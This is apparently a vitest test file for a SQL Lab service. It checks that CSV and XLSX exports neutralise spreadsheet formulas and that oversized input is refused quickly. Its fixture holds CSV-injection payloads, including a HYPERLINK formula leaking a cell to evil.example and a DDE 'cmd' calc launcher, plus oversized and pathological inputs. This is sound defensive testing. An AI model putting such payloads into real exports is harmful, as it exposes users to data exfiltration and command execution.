import path from 'node:path';
import { Readable } from 'node:stream';
import { DuckDBInstance } from '@duckdb/node-api';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_NAME_LENGTH, MAX_SQL_BYTES } from '../../sqllab/limits.ts';
import { clientId, execute } from '../../sqllab/testFixtures.ts';
import { replaceTemplateMarkup } from '../../sqllab/tools.ts';
import { addDatabase, grantDatabase, multipartBody } from '../../sqllab-state/testSupport.ts';
import { createTestApp, type TestApp } from '../../testing/harness.ts';

/**
 * Issue 21, items 12 and 2, as they reach SQL Lab: a value stored as a spreadsheet formula must
 * download as text (CSV and XLSX), and oversized SQL, names and template parameters on the SQL
 * Lab and tab-state routes are refused with a 400 naming the field, fast, before any parsing.
 */

let t: TestApp;
let duck: number;

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1,2)',
  '-2+3',
];

async function makeNotes(file: string): Promise<void> {
  const instance = await DuckDBInstance.create(file);
  const connection = await instance.connect();
  try {
    const values = FORMULAS.map((text, i) => `(${i}, '${text.replaceAll("'", "''")}', -${i + 1})`);
    await connection.run(`CREATE TABLE notes (id INTEGER, body VARCHAR, delta INTEGER)`);
    await connection.run(`INSERT INTO notes VALUES ${values.join(', ')}`);
    await connection.run('CHECKPOINT');
  } finally {
    connection.closeSync();
    instance.closeSync();
  }
}

beforeAll(async () => {
  t = await createTestApp();
  const file = path.join(t.home, 'notes.duckdb');
  await makeNotes(file);
  duck = await addDatabase(t, 'notes', { engine: 'duckdb', uri: `duckdb:///${file}` });
  await grantDatabase(t, 'sql_lab', duck, 'notes');
});

afterAll(async () => {
  await t?.close();
});

/** Runs a query through SQL Lab as the sql_lab user; answers its client id. */
async function run(sql: string): Promise<string> {
  const id = clientId('f');
  const res = await execute(t, 'sqllab', { client_id: id, database_id: duck, sql });
  expect(res.statusCode, res.body).toBe(200);
  return id;
}

describe('formula cells in SQL Lab downloads (issue 21, item 12)', () => {
  const SQL = `SELECT body, delta, body AS "=cmd()" FROM notes ORDER BY id`;

  it('a CSV download of a real query prefixes every formula cell and header with a quote', async () => {
    const id = await run(SQL);
    const res = await t.call('sqllab', { method: 'GET', url: `/api/v1/sqllab/export/${id}/` });
    expect(res.statusCode, res.body).toBe(200);
    const lines = res.body.trimEnd().split('\r\n').join('\n').split('\n');
    expect(lines[0]).toBe(`body,delta,'=cmd()`);
    const cells = lines.slice(1).map((line) => line.split(',')[0]);
    // Quoting by the CSV writer may wrap a cell; what matters is the first character inside.
    for (const cell of cells) expect(cell.replace(/^"/, '').startsWith("'")).toBe(true);
    expect(res.body).not.toMatch(/(^|[\n,])"?[=+@-][^0-9]/);
    // Numbers stay numbers: a negative number is data, not a formula.
    expect(lines[1]).toMatch(/,-1,/);
  });

  it('an XLSX download keeps formula text as text, prefixed, and numbers as numbers', async () => {
    const id = await run(SQL);
    const res = await t.call('sqllab', {
      method: 'GET',
      url: `/api/v1/sqllab/export/${id}/?format=xlsx`,
    });
    expect(res.statusCode).toBe(200);
    const reader = new ExcelJS.stream.xlsx.WorkbookReader(Readable.from([res.rawPayload]), {
      worksheets: 'emit',
      sharedStrings: 'cache',
      styles: 'cache',
      hyperlinks: 'ignore',
    });
    const rows: unknown[][] = [];
    for await (const sheet of reader) {
      for await (const row of sheet as AsyncIterable<ExcelJS.Row>) {
        rows.push((row.values as unknown[]).slice(1));
      }
    }
    expect(rows[0]).toEqual(['body', 'delta', "'=cmd()"]);
    expect(rows.slice(1).map((row) => row[0])).toEqual(FORMULAS.map((text) => `'${text}`));
    expect(rows.slice(1).map((row) => row[1])).toEqual([-1, -2, -3, -4]);
  });
});

describe('oversized SQL Lab input is refused quickly (issue 21, item 2)', () => {
  const hugeSql = `SELECT 1 -- ${'x'.repeat(MAX_SQL_BYTES)}`;
  const longName = 's'.repeat(MAX_NAME_LENGTH + 1);

  /** Sends the request, expects 400 naming `field`, and that it took well under a second. */
  async function refused(
    options: Parameters<TestApp['call']>[1],
    field: string,
    caller: 'sqllab' | 'admin' = 'sqllab',
  ): Promise<void> {
    const started = performance.now();
    const res = await t.call(caller, options);
    const took = performance.now() - started;
    expect(res.statusCode, res.body.slice(0, 300)).toBe(400);
    expect(Object.keys(res.json().message)).toEqual([field]);
    expect(took).toBeLessThan(1000);
  }

  it('execute: SQL over the cap, a long schema, long template parameters', async () => {
    const url = '/api/v1/sqllab/execute/';
    await refused({ method: 'POST', url, payload: { database_id: duck, sql: hugeSql } }, 'sql');
    await refused(
      { method: 'POST', url, payload: { database_id: duck, sql: 'SELECT 1', schema: longName } },
      'schema',
    );
    await refused(
      {
        method: 'POST',
        url,
        payload: { database_id: duck, sql: 'SELECT 1', catalog: 'c'.repeat(1_000_000) },
      },
      'catalog',
    );
    await refused(
      {
        method: 'POST',
        url,
        payload: {
          database_id: duck,
          sql: 'SELECT 1',
          templateParams: JSON.stringify({ p: 'v'.repeat(200_000) }),
        },
      },
      'templateParams',
    );
  });

  it('estimate and format_sql: SQL over the cap, and SQL the formatter would choke on', async () => {
    await refused(
      {
        method: 'POST',
        url: '/api/v1/sqllab/estimate/',
        payload: { database_id: duck, sql: hugeSql },
      },
      'sql',
    );
    await refused(
      { method: 'POST', url: '/api/v1/sqllab/format_sql/', payload: { sql: hugeSql } },
      'sql',
    );
    // Below the SQL cap, but beyond what the formatter's parser gets through in a second.
    const format = (sql: string) => ({
      method: 'POST' as const,
      url: '/api/v1/sqllab/format_sql/',
      payload: { sql },
    });
    await refused(format(`SELECT ${'('.repeat(400)}`), 'sql');
    await refused(format(`SELECT ${'col_a + 1, '.repeat(4000)}1`), 'sql');
    const fine = await t.call('sqllab', format('select a, (b + (c)) from t'));
    expect(fine.json()).toEqual({ result: 'select\n  a,\n  (b + (c))\nfrom\n  t' });
  });

  it('tabstateview and tableschemaview: SQL, schema and table names', async () => {
    await refused(
      {
        method: 'POST',
        url: '/tabstateview/',
        payload: { queryEditor: { name: 'big', dbId: duck, sql: hugeSql } },
      },
      'queryEditor.sql',
    );
    const form = await multipartBody({ queryEditor: { name: 'ok', dbId: duck, sql: 'SELECT 1' } });
    const created = await t.call('sqllab', { method: 'POST', url: '/tabstateview/', ...form });
    expect(created.statusCode, created.body).toBe(200);
    const tab = created.json().id as number;
    await refused(
      { method: 'PUT', url: `/tabstateview/${tab}`, payload: { schema: longName } },
      'schema',
    );
    await refused({ method: 'PUT', url: `/tabstateview/${tab}`, payload: { sql: hugeSql } }, 'sql');
    await refused(
      {
        method: 'POST',
        url: '/tableschemaview/',
        payload: { table: { dbId: duck, queryEditorId: tab, name: 'notes', schema: longName } },
      },
      'table.schema',
    );
  });

  it('an anonymous caller is told to sign in, not how big its SQL was', async () => {
    const res = await t.call('anonymous', {
      method: 'POST',
      url: '/api/v1/sqllab/execute/',
      payload: { database_id: duck, sql: hugeSql },
    });
    expect(res.statusCode).toBe(401);
  });

  it('setting template markup aside for formatting is linear, even with no closers', () => {
    const hostile = '{{{%{#'.repeat(MAX_SQL_BYTES / 6);
    const started = performance.now();
    const out = replaceTemplateMarkup(hostile, () => '');
    expect(performance.now() - started).toBeLessThan(500);
    expect(out).toBe(hostile);
    expect(replaceTemplateMarkup('a {{ x }} b {% if y %} c {# z #}', (m) => `<${m.length}>`)).toBe(
      'a <7> b <10> c <7>',
    );
  });
});
